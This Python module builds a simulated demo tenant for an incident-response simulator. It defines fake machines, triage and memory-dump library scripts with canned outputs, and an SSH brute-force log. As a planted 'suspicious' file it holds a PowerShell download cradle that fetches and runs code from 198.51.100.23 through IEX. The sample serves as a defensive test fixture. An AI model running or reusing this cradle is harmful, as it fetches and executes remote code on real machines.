"""A ready-made tenant for the offline demo and ``lrbot simulator``."""

from __future__ import annotations

import hashlib
import io
import zipfile

from commands.simulator.scenario import (
    Scenario,
    SimFile,
    SimLibraryFile,
    SimMachine,
    SimScript,
)

__all__ = ["demo_scenario"]

_TRIAGE_SCRIPT = b"""param([string]$Case = "none")
$out = "C:\\Windows\\Temp\\triage"
New-Item -ItemType Directory -Force -Path $out | Out-Null
Get-Process | Export-Csv "$out\\processes.csv"
Get-NetTCPConnection | Export-Csv "$out\\connections.csv"
Get-ScheduledTask | Export-Csv "$out\\tasks.csv"
Compress-Archive -Path $out -DestinationPath "C:\\Windows\\Temp\\triage.zip" -Force
"""

_TRIAGE_OUTPUT = """Case: IR-2026-0142
Collecting running processes........ 187 processes
Collecting network connections...... 64 connections (12 established)
Collecting scheduled tasks.......... 141 tasks
Collecting autoruns................. 38 entries
Collecting recent PowerShell history 3 users
Archive written: C:\\Windows\\Temp\\triage.zip (2.4 MB)
Done in 7.8 s.
"""

_SUSPICIOUS = b"""$w = New-Object Net.WebClient
$w.Headers.Add('User-Agent', 'Mozilla/5.0')
IEX ($w.DownloadString('http://198.51.100.23/a'))
"""


def machine_id(name: str) -> str:
    """A stable, realistic 40-hex machine id derived from a host name."""
    return hashlib.sha1(name.encode()).hexdigest()  # noqa: S324 (an id, not security)


def _triage_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("processes.csv", "connections.csv", "tasks.csv"):
            info = zipfile.ZipInfo(f"triage/{name}", date_time=(2026, 1, 5, 9, 0, 0))
            archive.writestr(info, f"# {name}\nName,Id,Path\nsvchost,1044,C:\\Windows\\System32\n")
    return buffer.getvalue()


def _machines() -> list[SimMachine]:
    windows_files = {
        "C:\\Windows\\Temp\\triage.zip": SimFile(content=_triage_zip()),
        "C:\\Users\\Public\\suspicious.ps1": SimFile(content=_SUSPICIOUS),
    }
    linux_files = {
        "/var/log/auth.log": SimFile(
            content=b"Jan  5 08:58:01 srv-linux-01 sshd[2211]: Failed password for root"
            b" from 203.0.113.50 port 51122 ssh2\n" * 5
        )
    }

    def machine(name: str, **fields: object) -> SimMachine:
        return SimMachine.model_validate(
            {"id": machine_id(name), "computer_dns_name": name, **fields}
        )

    return [
        machine("ws-001.contoso.com", files=windows_files, machine_tags=["Finance"]),
        machine(
            "laptop-042.contoso.com",
            os_platform="Windows10",
            health_status="Inactive",
            rbac_group_name="Laptops",
            last_ip_address="10.0.4.42",
        ),
        machine(
            "srv-linux-01.contoso.com",
            os_platform="Linux",
            version="Ubuntu 22.04",
            rbac_group_name="Servers",
            last_ip_address="10.0.9.11",
            files=linux_files,
        ),
        machine(
            "dc-01.contoso.com",
            os_platform="WindowsServer2022",
            version="21H2",
            rbac_group_name="Domain Controllers",
            remediation=False,
            last_ip_address="10.0.0.2",
        ),
        machine("ws-010.contoso.com", files=windows_files, last_ip_address="10.0.1.10"),
        machine("ws-011.contoso.com", files=windows_files, last_ip_address="10.0.1.11"),
        machine(
            "kiosk-07.contoso.com",
            os_platform="Windows7",
            version="SP1",
            rbac_group_name="Kiosks",
            supported=False,
            last_ip_address="10.0.7.7",
        ),
    ]


def _library() -> list[SimLibraryFile]:
    return [
        SimLibraryFile(
            file_name="collect-triage.ps1",
            content=_TRIAGE_SCRIPT,
            description="Collects processes, connections and tasks into triage.zip",
            has_parameters=True,
            parameters_description="-Case <case number>",
        ),
        SimLibraryFile(
            file_name="memdump.ps1",
            content=b"param([string]$Process)\n& .\\procdump64.exe -accepteula -ma $Process\n",
            description="Dumps a process's memory with procdump",
            has_parameters=True,
            parameters_description="<process name>",
        ),
        SimLibraryFile(
            file_name="slow.ps1",
            content=b"Start-Sleep -Seconds 3600\n",
            description="Sleeps for an hour (for testing time-outs)",
        ),
        SimLibraryFile(
            file_name="procdump64.exe",
            content=b"MZ\x90\x00" + b"\x00" * 60 + b"procdump (simulated)",
            description="Sysinternals ProcDump",
        ),
    ]


def demo_scenario() -> Scenario:
    """Seven machines, four library files and the scripts' behaviour, for demos and trials."""
    return Scenario(
        machines=_machines(),
        library=_library(),
        scripts={
            "collect-triage.ps1": SimScript(seconds=8, output=_TRIAGE_OUTPUT),
            "memdump.ps1": SimScript(
                seconds=4,
                exit_code=1,
                fail=True,
                output="ProcDump v11.0 - Sysinternals process dump utility\n",
                errors="Error opening process: Access is denied. (0x80070005)",
            ),
            "slow.ps1": SimScript(timeout=True),
        },
        command_seconds=2.0,
        pending_seconds=1.5,
    )
